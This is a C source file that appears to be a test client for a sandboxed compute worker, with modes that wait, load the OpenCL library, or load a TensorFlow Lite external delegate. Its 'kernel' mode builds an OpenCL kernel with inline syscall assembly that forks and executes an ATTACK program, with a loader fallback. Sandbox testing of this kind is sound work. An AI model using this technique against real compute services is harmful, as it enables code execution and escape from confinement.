/* client wait | load | kernel ATTACK TARGETS LOADER | delegate PLUGIN
 *
 * wait      a victim: opens a session, reports it, and stays until the end of standard input
 * load      has the worker load the vendor's library and call it
 * kernel    has a kernel start the program ATTACK in the worker, directly or, where that is refused, with the dynamic LOADER
 * delegate  has the worker load this external delegate of TensorFlow Lite's */
#define _GNU_SOURCE
#define CL_TARGET_OPENCL_VERSION 120
#include <CL/cl.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void check(long status, const char *call)
{
    if (status != 0) {
        fprintf(stderr, "client: %s: %ld\n", call, status);
        exit(3);
    }
}

static int wait_for_the_end(void)
{
    char byte;
    cl_uint count;

    /* The vendor need not have any. */
    clGetPlatformIDs(0, NULL, &count);
    puts("there");
    fflush(stdout);
    while (read(0, &byte, 1) > 0)
        ;
    return 0;
}

static int load(void)
{
    cl_uint count;

    clGetPlatformIDs(0, NULL, &count);
    return 0;
}

/* fork, execve twice, wait4 and exit by number, for x86-64. */
static const char *source =
    "static long call(long n, long a, long b, long c, long d)\n"
    "{\n"
    "    long r;\n"
    "    __asm__ volatile(\"movq %5, %%r10; syscall\" : \"=a\"(r) : \"a\"(n), \"D\"(a), \"S\"(b), \"d\"(c), \"r\"(d)\n"
    "                     : \"rcx\", \"r11\", \"r10\", \"memory\");\n"
    "    return r;\n"
    "}\n"
    "__kernel void start(__global char *attack, __global char *targets, __global char *loader, __global long *words,\n"
    "                    __global long *out)\n"
    "{\n"
    "    words[0] = words[4] = (long)attack;\n"
    "    words[1] = words[5] = (long)targets;\n"
    "    words[2] = words[6] = 0;\n"
    "    words[3] = (long)loader;\n"
    "    long child = call(57, 0, 0, 0, 0);\n"
    "    if (child == 0) {\n"
    "        call(59, (long)attack, (long)words, (long)(words + 2), 0);\n"
    "        long refused = call(59, (long)loader, (long)(words + 3), (long)(words + 2), 0);\n"
    "        call(231, -refused, 0, 0, 0);\n"
    "    }\n"
    "    out[0] = child;\n"
    "    if (child > 0)\n"
    "        out[1] = call(61, child, (long)(out + 2), 0, 0);\n"
    "}\n";

static int kernel(char **texts)
{
    enum { TEXTS = 3, WORDS = TEXTS, OUT, BUFFERS };
    cl_platform_id platform;
    cl_device_id device;
    cl_int status;
    long words[8] = {0}, out[3] = {0};
    size_t one = 1;

    check(clGetPlatformIDs(1, &platform, NULL), "clGetPlatformIDs");
    check(clGetDeviceIDs(platform, CL_DEVICE_TYPE_ALL, 1, &device, NULL), "clGetDeviceIDs");
    cl_context context = clCreateContext(NULL, 1, &device, NULL, NULL, &status);
    check(status, "clCreateContext");
    cl_command_queue queue = clCreateCommandQueue(context, device, 0, &status);
    check(status, "clCreateCommandQueue");
    cl_program program = clCreateProgramWithSource(context, 1, &source, NULL, &status);
    check(status, "clCreateProgramWithSource");
    check(clBuildProgram(program, 1, &device, "", NULL, NULL), "clBuildProgram");
    cl_kernel start = clCreateKernel(program, "start", &status);
    check(status, "clCreateKernel");
    cl_mem buffers[BUFFERS];
    for (int i = 0; i < BUFFERS; i++) {
        void *bytes = i < TEXTS ? (void *)texts[i] : i == WORDS ? (void *)words : (void *)out;
        size_t size = i < TEXTS ? strlen(texts[i]) + 1 : i == WORDS ? sizeof words : sizeof out;
        buffers[i] = clCreateBuffer(context, CL_MEM_READ_WRITE | CL_MEM_COPY_HOST_PTR, size, bytes, &status);
        check(status, "clCreateBuffer");
        check(clSetKernelArg(start, (cl_uint)i, sizeof buffers[i], &buffers[i]), "clSetKernelArg");
    }
    check(clEnqueueNDRangeKernel(queue, start, 1, NULL, &one, &one, 0, NULL, NULL), "clEnqueueNDRangeKernel");
    check(clEnqueueReadBuffer(queue, buffers[OUT], CL_TRUE, 0, sizeof out, out, 0, NULL, NULL), "clEnqueueReadBuffer");
    if (out[0] < 0)
        fprintf(stderr, "client: fork: %s\n", strerrorname_np((int)-out[0]));
    else if (out[2] != 0)
        fprintf(stderr, "client: the program in the worker ended with status %#lx\n", out[2]);
    return 0;
}

/* As in external_delegate.h of TensorFlow Lite 2.9. */
struct options {
    const char *library;
    int count;
    const char *keys[256], *values[256];
    int (*insert)(struct options *, const char *, const char *);
};

static int delegate(const char *plugin)
{
    void *library = dlopen("libtensorflowlite_c.so", RTLD_NOW);
    struct options (*make)(const char *);
    void *(*create)(const struct options *);

    check(library == NULL, "dlopen");
    *(void **)&make = dlsym(library, "TfLiteExternalDelegateOptionsDefault");
    *(void **)&create = dlsym(library, "TfLiteExternalDelegateCreate");
    check(!make || !create, "dlsym");
    struct options options = make(plugin);
    create(&options);
    return 0;
}

int main(int argc, char **argv)
{
    const char *way = argc > 1 ? argv[1] : "";

    if (strcmp(way, "wait") == 0)
        return wait_for_the_end();
    if (strcmp(way, "load") == 0)
        return load();
    if (strcmp(way, "kernel") == 0 && argc == 5)
        return kernel(argv + 2);
    if (strcmp(way, "delegate") == 0 && argc == 3)
        return delegate(argv[2]);
    return 2;
}
